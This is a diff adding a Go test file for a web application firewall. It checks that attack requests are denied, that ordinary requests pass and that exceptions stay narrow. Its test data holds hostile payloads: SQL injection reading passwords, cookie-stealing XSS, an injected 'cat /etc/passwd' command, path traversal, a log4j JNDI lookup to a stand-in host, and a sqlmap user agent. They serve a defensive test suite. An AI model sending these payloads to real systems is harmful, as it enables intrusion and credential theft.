@@ -1,0 +1,141 @@
+package waf
+
+import (
+	"context"
+	"net/http"
+	"net/netip"
+	"strings"
+	"testing"
+
+	"github.com/gatehouse-sec/gatehouse/gate"
+	"github.com/gatehouse-sec/gatehouse/kit/body"
+	"github.com/gatehouse-sec/gatehouse/kit/canon"
+)
+
+var rules = Load()
+
+type sample struct {
+	method, path string
+	query        []canon.Pair
+	fields       map[string]string
+	media        string
+	kind         body.Kind
+	body         string
+	parts        []body.Part
+}
+
+func (s sample) exchange() *gate.Exchange {
+	fields := http.Header{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"}, "Accept": {"application/json"}}
+	for k, v := range s.fields {
+		fields.Set(k, v)
+	}
+	if s.media != "" {
+		fields.Set("Content-Type", s.media)
+	}
+	tree := &body.Tree{Kind: s.kind, Raw: []byte(s.body), Parts: s.parts}
+	x := &gate.Exchange{
+		ID: "TEST", Source: gate.Source{Client: netip.MustParseAddr("192.0.2.1")},
+		Request:   &canon.Request{Method: s.method, Host: "api.test", Path: s.path, Query: s.query, Fields: fields, Major: 1, Length: int64(len(s.body) + len(s.parts))},
+		Operation: &gate.Operation{Key: "op"},
+	}
+	x.SetBody(func(context.Context) (*body.Tree, gate.Verdict) { return tree, gate.Allow() })
+	return x
+}
+
+func guard(t testing.TB, cfg Config) *Guard {
+	t.Helper()
+	g, err := New(cfg, &gate.API{Name: "shop", Operations: []*gate.Operation{{Key: "op"}}}, rules)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return g
+}
+
+var attacks = map[string]sample{
+	"sql in query":        {method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "1' OR '1'='1' UNION SELECT password FROM users--"}}},
+	"xss in query":        {method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "<script>alert(document.cookie)</script>"}}},
+	"shell in form":       {method: "POST", path: "/x", media: "application/x-www-form-urlencoded", kind: body.Form, body: "a=%3Bcat+%2Fetc%2Fpasswd"},
+	"sql in json":         {method: "POST", path: "/x", media: "application/json", kind: body.JSON, body: `{"a":{"b":["x' UNION SELECT password FROM users--"]}}`},
+	"sql in vendor json":  {method: "PATCH", path: "/x", media: "application/vnd.shop+json", kind: body.JSON, body: `{"a":"x' UNION SELECT password FROM users--"}`},
+	"xss in part":         {method: "POST", path: "/x", media: "multipart/form-data; boundary=b", kind: body.Multipart, parts: []body.Part{{Name: "note", Data: []byte("<script>alert(1)</script>")}}},
+	"traversal file name": {method: "POST", path: "/x", media: "multipart/form-data; boundary=b", kind: body.Multipart, parts: []body.Part{{Name: "f", FileName: "../../../etc/passwd", Data: []byte("x")}}},
+	"sql in text":         {method: "POST", path: "/x", media: "text/plain", kind: body.Text, body: "x' UNION SELECT password FROM users--"},
+	"log4j in field":      {method: "GET", path: "/x", fields: map[string]string{"X-Request-Id": "${jndi:ldap://evil.test/a}"}},
+	"traversal in query":  {method: "GET", path: "/x", query: []canon.Pair{{Name: "file", Value: "../../../../etc/passwd"}}},
+	"scanner":             {method: "GET", path: "/x", fields: map[string]string{"User-Agent": "sqlmap/1.8"}},
+}
+
+func TestAttacksAreDenied(t *testing.T) {
+	g := guard(t, Config{})
+	for name, s := range attacks {
+		v := g.Check(t.Context(), s.exchange())
+		if v.Allowed() || v.Code != gate.Attack || !strings.HasPrefix(v.Rule, "crs 9") || v.Detail == "" || v.Fix == "" {
+			t.Errorf("%s: %+v", name, v)
+		}
+		if strings.Contains(v.Shown, "UNION SELECT password FROM") {
+			t.Errorf("%s: the event repeats the bytes unmasked: %s", name, v.Shown)
+		}
+	}
+}
+
+func TestPlainRequestsPass(t *testing.T) {
+	g := guard(t, Config{})
+	for name, s := range map[string]sample{
+		"get":       {method: "GET", path: "/products/7"},
+		"delete":    {method: "DELETE", path: "/products/7"},
+		"json":      {method: "PUT", path: "/x", media: "application/json", kind: body.JSON, body: `{"name":"Ann O'Neil","qty":3,"note":"please ring twice"}`},
+		"vendor":    {method: "POST", path: "/x", media: "application/vnd.api+json", kind: body.JSON, body: `{"a":1}`},
+		"form":      {method: "POST", path: "/x", media: "application/x-www-form-urlencoded", kind: body.Form, body: "name=Ann&city=Oslo"},
+		"multipart": {method: "POST", path: "/x", media: "multipart/form-data; boundary=b", kind: body.Multipart, parts: []body.Part{{Name: "f", FileName: "photo.jpg", Data: []byte{0xff, 0xd8}}}},
+		"search":    {method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "red shoes, size 42"}}},
+	} {
+		if v := g.Check(t.Context(), s.exchange()); !v.Allowed() {
+			t.Errorf("%s: %+v", name, v)
+		}
+	}
+}
+
+// The exception that a denial proposes admits just that request, and nothing else.
+func TestTheProposedExceptionIsNarrow(t *testing.T) {
+	s := sample{method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "<script>alert(1)</script>"}}}
+	var except []Exception
+	for range 30 {
+		v := guard(t, Config{Except: except}).Check(t.Context(), s.exchange())
+		if v.Allowed() {
+			break
+		}
+		var id int
+		for _, r := range strings.TrimPrefix(v.Rule, "crs ") {
+			id = id*10 + int(r-'0')
+		}
+		except = append(except, Exception{Rule: id, Argument: "q", Operation: "op"})
+	}
+	g := guard(t, Config{Except: except})
+	if v := g.Check(t.Context(), s.exchange()); !v.Allowed() {
+		t.Fatalf("still denied after %d exceptions: %+v", len(except), v)
+	}
+	s.query[0].Name = "other"
+	if v := g.Check(t.Context(), s.exchange()); v.Allowed() {
+		t.Fatal("the exceptions for q hold for another argument too")
+	}
+}
+
+func TestWrongUses(t *testing.T) {
+	for _, cfg := range []Config{
+		{Paranoia: 5}, {Paranoia: -1}, {Threshold: -1}, {Except: []Exception{{Rule: 42}}}, {Except: []Exception{{Rule: 942100, Operation: "nope"}}}, {Except: []Exception{{}}},
+	} {
+		if _, err := New(cfg, &gate.API{Name: "shop"}, rules); err == nil {
+			t.Errorf("%+v was taken", cfg)
+		}
+	}
+}
+
+func BenchmarkPlainGet(b *testing.B) {
+	g := guard(b, Config{})
+	b.ReportAllocs()
+	for b.Loop() {
+		if v := g.Check(b.Context(), sample{method: "GET", path: "/products/7"}.exchange()); !v.Allowed() {
+			b.Fatal(v)
+		}
+	}
+}
